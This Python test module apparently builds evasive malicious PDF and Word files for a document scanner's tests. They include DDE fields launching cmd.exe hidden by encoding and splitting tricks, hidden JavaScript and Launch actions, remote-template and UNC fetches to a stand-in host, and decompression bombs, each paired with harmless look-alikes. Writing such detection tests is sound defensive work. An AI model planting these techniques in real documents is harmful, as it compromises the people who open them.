"""Files that hide what they do from who only looks at names, prefixes and the ordinary places; and honest ones that
look like them.
"""

import io
import os
import zipfile
import zlib

from PIL import Image, PngImagePlugin

from tests.aanval.maken import RELATIE, TYPEN, WORD, docx, foto_met_plek, relaties, typen

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W_STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
DDE = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
JS = "<< /S /JavaScript /JS (app.alert(1)) >>"
BLAD = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>"
CATALOGUS, BLADEN = "<< /Type /Catalog /Pages 2 0 R %s >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


# --- pdf
# --------------------------------------------------------------------------------------------------------------------


def ruwe_pdf(meer=None, *, root="", blad="", trailer="/Root 1 0 R", erachter=b""):
    """A pdf written by hand: `meer` {number: object} beside catalog 1, pages 2 and page 3; `root` and `blad` go
    into these.
    """
    delen, plek = {1: CATALOGUS % root, 2: BLADEN, 3: BLAD % blad, **(meer or {})}, {}
    uit = bytearray(b"%PDF-1.7\n")
    for nr, deel in delen.items():
        plek[nr] = len(uit)
        uit += b"%d 0 obj\n" % nr + (deel if isinstance(deel, bytes) else deel.encode()) + b"\nendobj\n"
    tabel, aantal = len(uit), max(delen) + 1
    uit += b"xref\n0 %d\n0000000000 65535 f \n" % aantal
    uit += b"".join(
        b"%010d 00000 n \n" % plek[nr] if nr in plek else b"0000000000 00000 f \n" for nr in range(1, aantal)
    )
    return bytes(uit) + f"trailer\n<< /Size {aantal} {trailer} >>\nstartxref\n{tabel}\n%%EOF\n".encode() + erachter


def _stroom(velden, inhoud=b""):
    return b"<< " + velden.encode() + b" /Length %d >>\nstream\n" % len(inhoud) + inhoud + b"\nendstream"


def _link(actie, soort="Link"):
    return ruwe_pdf(blad=f"/Annots [ << /Type /Annot /Subtype /{soort} /Rect [0 0 9 9] {actie} >> ]")


def _met_formulier(inhoud, velden="/Subtype /Form /BBox [0 0 1 1]"):
    return ruwe_pdf({4: _stroom(f"/Type /XObject {velden}", inhoud)}, blad="/Resources << /XObject << /X 4 0 R >> >>")


def nep_getekend(**opties):
    """One /ByteRange somewhere, and an author: no signature at all."""
    return ruwe_pdf(
        {4: "<< /Author (Geheime Maker) >>"},
        root="/Foo << /ByteRange [0 0 0 0] >>",
        trailer="/Root 1 0 R /Info 4 0 R",
        **opties,
    )


def getekend(*, root="", dekt=True, oud=None, erachter=b""):
    """A pdf with a signature in a field, whose two pieces are the whole file but the signature itself (or not, with
    `dekt` False).
    """
    veld = "<< /FT /Sig /T (Handtekening) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /V 5 0 R >>"
    hand = (
        "<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 AAAAAAAAAA BBBBBBBBBB CCCCCCCCCC] /Contents <3082"
        + "00" * 60
        + "> >>"
    )
    info = "<< /Author (Geheime Maker) >>"
    heel = ruwe_pdf(
        {4: veld, 5: hand, 6: info},
        root=f"/AcroForm << /SigFlags 3 /Fields [4 0 R] >> {root}",
        trailer="/Root 1 0 R /Info 6 0 R",
    )
    if oud is not None:  # the catalog as it was before: an older revision in the same file
        nieuw = heel[heel.index(b"1 0 obj") : heel.index(b"endobj") + 7]
        eerst = heel.replace(b"/SigFlags 3", b"/SigFlags 3 " + oud.encode(), 1)
        tabel = eerst.index(b"xref\n0 ")
        schuif = len(oud) + 1
        for plek in sorted({heel.index(b"%d 0 obj" % nr) for nr in range(2, 7)}, reverse=True):
            eerst = eerst.replace(b"%010d 00000 n" % plek, b"%010d 00000 n" % (plek + schuif))
        eerst = eerst[: eerst.rindex(b"startxref")] + b"startxref\n%d\n%%%%EOF\n" % tabel
        plek = len(eerst)
        heel = eerst + nieuw + b"\n"
        staart = b"trailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (tabel, len(heel))
        heel += b"xref\n1 1\n%010d 00000 n \n" % plek + staart
    begin = heel.index(b"<3082")
    eind = heel.index(b">", begin) + 1
    lengte = len(heel) - eind if dekt else 10
    for letter, getal in ((b"A", begin), (b"B", eind), (b"C", lengte)):
        heel = heel.replace(letter * 10, b"%010d" % getal)
    return heel + erachter


def pdf_met_foto(filters):
    """A photo with its place behind one or several filters."""
    data = foto_met_plek()
    if "Flate" in filters:
        data = zlib.compress(data)
    maten = "/Subtype /Image /Width 40 /Height 30 /ColorSpace /DeviceRGB /BitsPerComponent 8"
    return _met_formulier(data, f"{maten} /Filter {filters}")


PDF_KWAAD = {
    "catalogus in de trailer": (
        ruwe_pdf(trailer=f"/Root << /Type /Catalog /Pages 2 0 R /OpenAction {JS} >>"),
        "pdf_kapot",
    ),
    "een script los in de trailer": (ruwe_pdf(trailer=f"/Root 1 0 R /Los << /X [{JS}] >>"), "pdf_programma"),
    "een actie waarvan het soort elders staat": (
        ruwe_pdf(
            {4: "/Launch"},
            blad="/Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 4 0 R /F (cmd.exe) >> >> ]",
        ),
        "pdf_programma",
    ),
    "inhoud van het net": (
        ruwe_pdf({4: _stroom("/F << /Type /Filespec /FS /URL /F (http://kwaad.example/x) >>")}, blad="/Contents 4 0 R"),
        "pdf_haalt_op",
    ),
    "inhoud van de schijf": (ruwe_pdf({4: _stroom(r"/F (\\\\kwaad\\x)")}, blad="/Contents 4 0 R"), "pdf_haalt_op"),
    "een blad uit een andere pdf": (
        _met_formulier(b"", r"/Subtype /Form /BBox [0 0 1 1] /Ref << /F (\\\\kwaad\\x.pdf) /Page 0 >>"),
        "pdf_haalt_op",
    ),
    "een verwijzing naar het net": (
        ruwe_pdf(root="/X << /Type /Filespec /FS /URL /F (http://kwaad.example/x) >>"),
        "pdf_haalt_op",
    ),
    "een film van het net": (
        _link("/Movie << /F << /FS /URL /F (http://kwaad.example/m.avi) >> >> /A true", "Movie"),
        "pdf_media",
    ),
    "een scherm": (_link("/T (x)", "Screen"), "pdf_media"),
    "geluid": (_link("/A << /S /Sound /Sound 3 0 R >>"), "pdf_media"),
    "een sprong naar een andere pdf": (_link(r"/A << /S /GoToR /F (\\\\kwaad\\a.pdf) /D [0 /Fit] >>"), "pdf_haalt_op"),
    "een draad in een andere pdf": (_link(r"/A << /S /Thread /F (\\\\kwaad\\a.pdf) /D 0 >>"), "pdf_haalt_op"),
    "acties op een rij": (ruwe_pdf(blad="/AA [ << /S /URI /URI (http://kwaad.example) >> ]"), "pdf_programma"),
    "getekend, met een script": (getekend(root=f"/OpenAction {JS}"), "pdf_programma"),
    "getekend, met een script in een oude versie": (getekend(oud=f"/X {JS}"), "pdf_programma"),
}
PDF_GOED = {
    "nep-getekend": nep_getekend(),
    "nep-getekend met iets erachter": nep_getekend(erachter=b"<html>Geheim</html>\n%%EOF"),
    "getekend over een deel": getekend(dekt=False),
    "getekend met iets erachter": getekend(erachter=b"Geheim %%EOF"),
    "een foto": pdf_met_foto("/DCTDecode"),
    "een foto in een rij": pdf_met_foto("[/DCTDecode]"),
    "een foto in een pak": pdf_met_foto("[/FlateDecode /DCTDecode]"),
    "een opmerking": _link("/T (Geheime Maker) /Contents (Mooi)", "Text"),
    "een link naar de schijf": _link("/A << /S /URI /URI (file:///c:/Geheim) >>"),
    "een bijlage zonder lijst": ruwe_pdf(
        {
            5: "<< /Type /Filespec /F (Geheim.xml) /EF << /F 6 0 R >> >>",
            6: _stroom("/Type /EmbeddedFile", b"<?xml version='1.0'?><Geheim/>"),
        },
        root="/AF [5 0 R]",
    ),
}


# --- docx
# -------------------------------------------------------------------------------------------------------------------


def word(romp, *, p="w", ruimte=W, codering="UTF-8"):
    """The text of a document in this prefix, namespace and encoding."""
    tekst = (
        f'<?xml version="1.0" encoding="{codering}"?><{p}:document xmlns:{p}="{ruimte}" '
        f'xmlns:r="{RELATIE}"><{p}:body>{romp}</{p}:body></{p}:document>'
    )
    return tekst.encode(codering)


def veld(*stukken, p="w"):
    """A field whose instruction is split over runs."""
    teken = "<{p}:r><{p}:fldChar {p}:fldCharType='{s}'/></{p}:r>"
    runs = "".join(f"<{p}:r><{p}:instrText>{stuk}</{p}:instrText></{p}:r>" for stuk in stukken)
    return f"<{p}:p>{teken.format(p=p, s='begin')}{runs}{teken.format(p=p, s='end')}</{p}:p>"


def _enkel(instructie):
    return docx(document=word(f"<w:p><w:fldSimple {instructie}/></w:p>"))


def _met_rels(*rijen, document=None, deel="word/_rels/document.xml.rels"):
    return docx([(deel, relaties(*rijen))], document=document or word(""))


def _elders(naam, *, hoofd):
    """The instruction in a part that is not called xml: the main one, or a footer."""
    if hoofd:
        soort = typen(deel=f"/{naam}")
        return docx(
            [("_rels/.rels", relaties(("officeDocument", naam)))], typen=soort, hoofd=naam, document=word(veld(DDE))
        )
    return docx([(naam, word(veld(DDE)))], typen=typen((f"/{naam}", f"{WORD}.footer+xml")))


def kern(tekst="Geheime Maker", *, p="dc", codering="UTF-8"):
    ruimte = "http://schemas.openxmlformats.org/package/2006/metadata/core-properties"
    xml = (
        f'<cp:coreProperties xmlns:cp="{ruimte}" '
        f'xmlns:{p}="http://purl.org/dc/elements/1.1/"><{p}:creator>{tekst}</{p}:creator></cp:coreProperties>'
    )
    return f'<?xml version="1.0" encoding="{codering}"?>{xml}'.encode(codering)


def png_met_plek():
    uit, info, exif = io.BytesIO(), PngImagePlugin.PngInfo(), Image.Exif()
    info.add_text("Comment", "Geheime plek")
    exif[0x010E] = "Geheime plek"
    Image.new("RGB", (40, 30), "blue").save(uit, "PNG", pnginfo=info, exif=exif)
    return uit.getvalue() + b"Geheim"


def webp_met_plek():
    uit, exif = io.BytesIO(), Image.Exif()
    exif[0x010E] = "Geheime plek"
    Image.new("RGB", (40, 30), "blue").save(uit, "WEBP", exif=exif)
    return uit.getvalue()


def opgeblazen(soort, mb=50):
    """Half a MB that packs tightly in a way Word does not know, and unpacks to `mb`."""
    blok = os.urandom(40_000) * 125
    return docx([(f"word/media/x{nr}.bin", blok) for nr in range(mb // 5)], soort=soort)


OPMERKING = word('<w:comment w:id="1" w:author="Geheime Maker" w:initials="Geheim"><w:p/></w:comment>', p="w").replace(
    b"w:body", b"w:comments"
)
GEWIJZIGD = word('<w:p><w:ins w:id="1" w:author="Geheime Maker"><w:r><w:t>Dag</w:t></w:r></w:ins></w:p>')
SVG_LINK = (
    "<w:p><w:r><w:drawing><a:blip xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main' "
    "r:link='rId1'/></w:drawing></w:r></w:p>"
)
DOCX_KWAAD = {
    "dde met een andere prefix": (docx(document=word(veld(DDE, p="a"), p="a")), "docx_programma"),
    "dde in tekens": (docx(document=word(veld(DDE.replace("DDE", "&#68;D&#x45;")))), "docx_programma"),
    "dde in cdata": (docx(document=word(veld(f"<![CDATA[{DDE}]]>"))), "docx_programma"),
    "dde in utf-16": (docx(document=word(veld(DDE), codering="UTF-16")), "docx_programma"),
    "dde in de strenge naamruimte": (docx(document=word(veld("D", "DE x"), ruimte=W_STRICT)), "docx_programma"),
    "dde na een ander veld": (docx(document=word(veld("PAGE") + veld(DDE))), "docx_programma"),
    "dde met een opmerking erin": (docx(document=word(veld(DDE.replace("DDE", "D<!-- x -->DE")))), "docx_programma"),
    "dde in een kort veld": (_enkel('w:instr="&#68;DEAUTO cmd"'), "docx_programma"),
    "dde in een kort veld met spaties": (_enkel('w:instr = "DDEAUTO cmd"'), "docx_programma"),
    "dde als resultaat van een veld": (
        docx(document=word(veld(DDE).replace("<w:r><w:instrText>DDEAUTO",
        veld("QUOTE 68 68 69") + "<w:r><w:instrText>"))),
        "docx_programma",
    ),
    "dde in een voettekst die geen xml heet": (_elders("word/voet.bin", hoofd=False), "docx_programma"),
    "dde in een hoofddeel dat geen xml heet": (_elders("word/document.dat", hoofd=True), "docx_programma"),
    "een plaatje van het net in een veld": (
    docx(document=word(veld('INCLUDEPICTURE "http://kwaad.example/p.png" \\d'))),
    "docx_haalt_op"),
    "tekst van een andere computer in een veld": (docx(document=word(veld(r'INCLUDETEXT "\\\\kwaad\\s\\x.docx"'))),
    "docx_haalt_op"),
    "een sjabloon dat binnen heet": (
        _met_rels(("attachedTemplate", "http://kwaad.example/t.dotm", "Internal"), deel="word/_rels/settings.xml.rels"),
        "docx_sjabloon",
    ),
    "een sjabloon met een spatie": (
        _met_rels(("attachedTemplate ", "http://kwaad.example/t.dotm", "External"),
        deel="word/_rels/settings.xml.rels"),
        "docx_sjabloon",
    ),
    "een invoegtoepassing van het net": (_met_rels(("webextensiontaskpanes", "x.xml"), deel="_rels/.rels"),
    "docx_macro"),
    "kapotte xml": (docx([("word/voet.xml", b"<a><b></a>")]), "docx_kapot"),
    "kapotte xml die geen xml heet": (docx([("word/voet.bin", b"geen")],
    typen=typen(("/word/voet.bin", f"{WORD}.footer+xml"))), "docx_kapot"),
    "heel strak ingepakt": (lambda: opgeblazen(zipfile.ZIP_LZMA), "docx_kapot"),
    "strak ingepakt": (lambda: opgeblazen(zipfile.ZIP_BZIP2, 20), "docx_kapot"),
    "een sjabloon in utf-16": (
        docx([("word/_rels/settings.xml.rels", relaties(("attachedTemplate", "http://kwaad.example/t.dotm",
        "External")).decode().replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16"))]),
        "docx_sjabloon",
    ),
}  # fmt: skip
DOCX_GOED = {
    "bladnummers en een adres met dde": docx(
        document=word(veld("PAGE") + veld('HYPERLINK "https://werk.example/dde/"') + "<w:p/>")
    ),
    "een plaatje van de eigen schijf in een veld": docx(document=word(veld(r'INCLUDEPICTURE "C:\\Fotos\\ik.png" \d'))),
    "een plaatje van het net, buiten met een spatie": _met_rels(
        ("image", "http://kwaad.example/Geheim.png", " External")
    ),
    "een plaatje van het net, zonder buiten": _met_rels(("image", "http://kwaad.example/Geheim.png")),
    "een plaatje dat link heet": _met_rels(
        ("hyperlink", "http://kwaad.example/Geheim.png", "External"), document=word(SVG_LINK)
    ),
    "een link naar een andere computer": _met_rels(("hyperlink", r"\\kwaad\Geheim", "External")),
    "een maker in utf-16": docx([("docProps/core.xml", kern(codering="UTF-16"))]),
    "een maker met een andere prefix": docx([("docProps/core.xml", kern(p="q"))]),
    "een maker in cdata": docx([("docProps/core.xml", kern("<![CDATA[Geheime Maker]]>"))]),
    "een maker elders": docx(
        [("info/x.bin", kern())],
        typen=typen(("/info/x.bin", "application/vnd.openxmlformats-package.core-properties+xml")),
    ),
    "een map met handtekeningen": docx([("_xmlsignatures/x", b"Geheim"), ("docProps/core.xml", kern())]),
    "een png met een plek": docx([("word/media/a.png", png_met_plek())]),
    "een webp met een plek": docx([("word/media/a.webp", webp_met_plek())]),
    "een jpg met iets erachter": docx([("word/media/a.jpg", foto_met_plek() + b"Geheim")]),
    "een opmerking": docx(
        [("word/comments.xml", OPMERKING)], typen=typen(("/word/comments.xml", f"{WORD}.comments+xml"))
    ),
    "een wijziging": docx(document=GEWIJZIGD),
    "een blad met een maker": docx([("word/embeddings/Blad.xlsx", docx([("docProps/core.xml", kern())], typen=TYPEN))]),
}


def vol_fotos(aantal=20_000):
    """A pdf with very many small photos, each packed once more."""
    foto = zlib.compress(b"\xff\xd8" + b"\xff\xe0\x00\x02" * 1000 + b"\xff\xd9")
    rij = {4 + nr: _stroom("/Subtype /Image /Filter [/FlateDecode /DCTDecode]", foto) for nr in range(aantal)}
    return ruwe_pdf(rij, root=f"/X [ {' '.join(f'{nr} 0 R' for nr in rij)} ]")


ZWAAR = {  # as much as fits of what has to be looked at one by one
    "pdf vol foto's": vol_fotos,
    "pdf vol opmerkingen": lambda: _link(
        "/T (x) >> " + "<< /Type /Annot /Subtype /Text /T (x) >> " * 80_000 + "<< /X 1", "Text"
    ),
    "docx vol velden": lambda: docx(document=word(veld("PAGE") * 90_000)),
    "docx vol velden in velden": lambda: docx(
        document=word("<w:fldChar w:fldCharType='begin'/><w:instrText>x</w:instrText>" * 150_000)
    ),
    "docx vol wijzigingen": lambda: docx(document=word("<w:ins w:author='a'/>" * 300_000)),
    "docx vol lege elementen": lambda: docx([("word/x.xml", b"<r>" + b"<a/>" * 4_800_000 + b"</r>")]),
    "docx met een lang veld": lambda: docx(document=word("<w:instrText>LINK " + " a" * 4_000_000 + "</w:instrText>")),
    "docx met een jpg die vulling is": lambda: docx([("word/media/x.jpg", b"\xff\xd8\xff" + b"\xff" * 30_000_000)]),
    "docx vol relaties": lambda: docx(
        [("word/_rels/document.xml.rels", relaties(*[("image", "http://kwaad.example/")] * 60_000))]
    ),
}
KWAAD = {f"listige pdf: {geval}": ("brief.pdf", *wat) for geval, wat in PDF_KWAAD.items()}
KWAAD |= {f"listige docx: {geval}": ("brief.docx", *wat) for geval, wat in DOCX_KWAAD.items()}
GOED = {f"listige pdf: {geval}": ("brief.pdf", inhoud, "pdf") for geval, inhoud in PDF_GOED.items()}
GOED |= {f"listige docx: {geval}": ("brief.docx", inhoud, "docx") for geval, inhoud in DOCX_GOED.items()}
